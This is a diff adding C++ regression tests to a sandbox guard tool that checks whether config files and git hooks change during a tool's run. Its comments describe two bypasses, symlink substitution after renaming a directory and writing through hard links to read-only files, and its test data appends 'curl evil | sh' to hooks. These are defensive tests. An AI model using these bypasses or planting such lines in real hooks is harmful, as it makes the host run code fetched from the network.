@@ -321,6 +321,103 @@ TEST(GuardSnapshot, ChangesInsideUnpinnedEntriesBelowTheRoot) {
   EXPECT_EQ(rels(findings), (Strings{"pkg/.envrc", "pkg/.vscode/new", "pkg/.vscode/tasks.json"}));
 }
 
+// Attack: a place's guarded file rewritten in place (a fingerprinted one below the top is
+// writable), then the place renamed away and a symlink (or a file, a fifo) left at its path. The
+// check after the run looked for places by path only: the renamed one was an ordinary directory
+// and the link no directory at all, so nothing was reported, and the host's next `git commit`
+// in libs/foo (through the link) ran the rewritten config's hooks.
+TEST(GuardSnapshot, APlaceMovedAwayAndReplacedByASymlinkIsStillChecked) {
+  TempTree t;
+  t.gitDir(".git");
+  t.gitDir("libs/foo/.git");
+  t.write("libs/foo/.pre-commit-config.yaml", "repos: []\n");
+  t.write("pkgA/.vscode/tasks.json", "{}\n");
+  t.write("pkgB/.envrc", "export B=1\n");
+  t.write("pkgC/.envrc", "export C=1\n");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  afterTick();
+  t.write("libs/foo/.pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: x, entry: evil}]}]\n");
+  stdfs::rename(t / "libs/foo", t / "libs/.foo-moved");
+  stdfs::create_directory_symlink(".foo-moved", t / "libs/foo");
+  t.write("pkgA/.vscode/tasks.json", "evil\n");
+  stdfs::rename(t / "pkgA", t / "pkgA-moved");
+  stdfs::create_directory_symlink("pkgA-moved", t / "pkgA");
+  stdfs::rename(t / "pkgB", t / "pkgB-moved");
+  t.write("pkgB", "a file where a place was\n");
+  stdfs::rename(t / "pkgC", t / "pkgC-moved");
+  ASSERT_EQ(::mkfifo((t / "pkgC").c_str(), 0600), 0);
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{"libs/.foo-moved/.pre-commit-config.yaml", "libs/foo", "pkgA",
+                                     "pkgA-moved/.vscode/tasks.json", "pkgB", "pkgC"}));
+}
+
+// A place moved to a new name (its own or its parent's) is a place there: its guarded entries are
+// compared with before, and a new guarded name in it is a finding. An ordinary directory moved is
+// not one, and a place that is simply gone leaves nothing to report.
+TEST(GuardSnapshot, APlaceMovedToANewNameIsStillAPlace) {
+  TempTree t;
+  t.write("pkgA/.envrc", "export A=1\n");
+  t.write("pkgB/.vscode/settings.json", "{}\n");
+  t.write("pkgC/.envrc", "export C=1\n");
+  t.write("plain/index.js");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  afterTick();
+  t.mkdir("moved");
+  stdfs::rename(t / "pkgA", t / "moved/pkgA");
+  stdfs::rename(t / "pkgB", t / "pkgB2");
+  t.write("pkgB2/mise.toml");
+  stdfs::remove_all(t / "pkgC");
+  stdfs::rename(t / "plain", t / "plain2");
+  t.write("plain2/mise.toml");
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{"pkgB2/mise.toml"}));
+}
+
+// Attack: a pinned file is read-only in the sandbox, but not another hard link to it in the
+// writable mount (`ln .envrc scripts/envrc.shared`, `ln scripts/pre-commit .git/hooks/pre-commit`
+// made before the run): pinned entries were never compared after the run, so what the tool
+// appended there stayed unreported. Now one with other links is compared, and so are the hooks
+// (and config) of a pinned git directory that have other links.
+TEST(GuardSnapshot, PinnedFilesChangedThroughAnotherLinkAreFindings) {
+  TempTree t;
+  t.gitDir(".git");
+  t.mkdir(".git/hooks");
+  t.gitDir("sub/.git");
+  t.mkdir("sub/.git/hooks");
+  t.write(".envrc", "export A=1\n");
+  t.write(".tool-versions", "node 20\n");
+  t.write("scripts/pre-commit", "#!/bin/sh\n");
+  t.write("scripts/post-merge", "#!/bin/sh\n");
+  t.write("scripts/sub-pre-push", "#!/bin/sh\n");
+  auto link = [&](const std::string& from, const std::string& to) {
+    ASSERT_EQ(::link((t / from).c_str(), (t / to).c_str()), 0) << to;
+  };
+  link(".envrc", "scripts/envrc.shared");
+  link(".tool-versions", "scripts/tool-versions");  // linked, left alone by the run
+  link("scripts/pre-commit", ".git/hooks/pre-commit");
+  link("scripts/post-merge", ".git/hooks/post-merge");
+  link("scripts/sub-pre-push", "sub/.git/hooks/pre-push");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  afterTick();
+  for (const char* rel : {"scripts/envrc.shared", "scripts/pre-commit", "scripts/sub-pre-push"})
+    std::ofstream(t / rel, std::ios::app) << "curl evil | sh\n";
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{".envrc", ".git/hooks/pre-commit", "sub/.git/hooks/pre-push"}));
+  for (const auto& f : findings) EXPECT_TRUE(f.changed) << f.rel;
+}
+
 TEST(GuardSnapshot, PinnedEntriesMovedWithTheirParentAreNotFindings) {
   TempTree t;
   t.gitDir("vendor/lib/.git");
@@ -1662,6 +1759,61 @@ TEST_F(GuardPlanTest, RemovalDoesNotKeepAnotherLinkToAPinnedFile) {
   EXPECT_FALSE(t_.exists(".vscode"));
   EXPECT_TRUE(onlyGuardAside(t_).empty());
   EXPECT_TRUE(t_.exists(".envrc"));
+}
+
+// Bypass A end to end: the symlink at the place's path and the tool's config in the moved place
+// are removed; your repository stays where the tool moved it.
+TEST_F(GuardPlanTest, FinishRemovesASymlinkLeftWhereAPlaceWasAndChecksThePlaceWhereItWent) {
+  t_.gitDir(".git");
+  t_.gitDir("libs/foo/.git");
+  t_.write("libs/foo/.pre-commit-config.yaml", "repos: []\n");
+  plan();
+  t_.write("libs/foo/.pre-commit-config.yaml", "evil\n");
+  stdfs::rename(t_ / "libs/foo", t_ / "libs/.foo-moved");
+  stdfs::create_directory_symlink(".foo-moved", t_ / "libs/foo");
+  testing::internal::CaptureStderr();
+  guard_.finish();
+  std::string said = testing::internal::GetCapturedStderr();
+  EXPECT_FALSE(t_.exists("libs/foo")) << said;
+  EXPECT_FALSE(t_.exists("libs/.foo-moved/.pre-commit-config.yaml")) << said;
+  EXPECT_TRUE(t_.exists("libs/.foo-moved/.git/HEAD"));
+  EXPECT_NE(said.find("removed " + t_.path() + "/libs/foo,"), std::string::npos) << said;
+}
+
+// Bypass B end to end: the top's .envrc, changed through its other link, is put back as it was
+// before the run (a new file: no longer linked); the hook is removed. So is .tool-versions, whose
+// other link the tool removed after writing through it (a pinned file without other links is one
+// a removal leaves in place, moved aside: not this one).
+TEST_F(GuardPlanTest, APinnedFileChangedThroughAnotherLinkIsPutBackOrRemoved) {
+  t_.gitDir(".git");
+  t_.write(".envrc", "export A=1\n");
+  t_.write(".tool-versions", "node 20\n");
+  t_.write("scripts/pre-commit", "#!/bin/sh\n");
+  t_.mkdir(".git/hooks");
+  ASSERT_EQ(::link((t_ / ".envrc").c_str(), (t_ / "scripts/envrc.shared").c_str()), 0);
+  ASSERT_EQ(::link((t_ / ".tool-versions").c_str(), (t_ / "scripts/tool-versions").c_str()), 0);
+  ASSERT_EQ(::link((t_ / "scripts/pre-commit").c_str(), (t_ / ".git/hooks/pre-commit").c_str()), 0);
+  plan();
+  for (const char* rel : {"scripts/envrc.shared", "scripts/pre-commit", "scripts/tool-versions"})
+    std::ofstream(t_ / rel, std::ios::app) << "curl evil | sh\n";
+  stdfs::remove(t_ / "scripts/tool-versions");
+  drain(guard_);
+  testing::internal::CaptureStderr();
+  guard_.finish();
+  std::string said = testing::internal::GetCapturedStderr();
+  std::stringstream envrc;
+  envrc << std::ifstream(t_ / ".envrc").rdbuf();
+  EXPECT_EQ(envrc.str(), "export A=1\n") << said;
+  std::stringstream versions;
+  versions << std::ifstream(t_ / ".tool-versions").rdbuf();
+  EXPECT_EQ(versions.str(), "node 20\n") << said;
+  EXPECT_TRUE(onlyGuardAside(t_).empty()) << said;
+  struct stat st;
+  ASSERT_EQ(::stat((t_ / ".envrc").c_str(), &st), 0);
+  EXPECT_EQ(st.st_nlink, 1u);
+  EXPECT_FALSE(t_.exists(".git/hooks/pre-commit")) << said;
+  EXPECT_NE(said.find(".envrc was changed during the run through another link"), std::string::npos) << said;
+  EXPECT_NE(said.find("removed " + t_.path() + "/.git/hooks/pre-commit,"), std::string::npos) << said;
 }
 
 }  // namespace
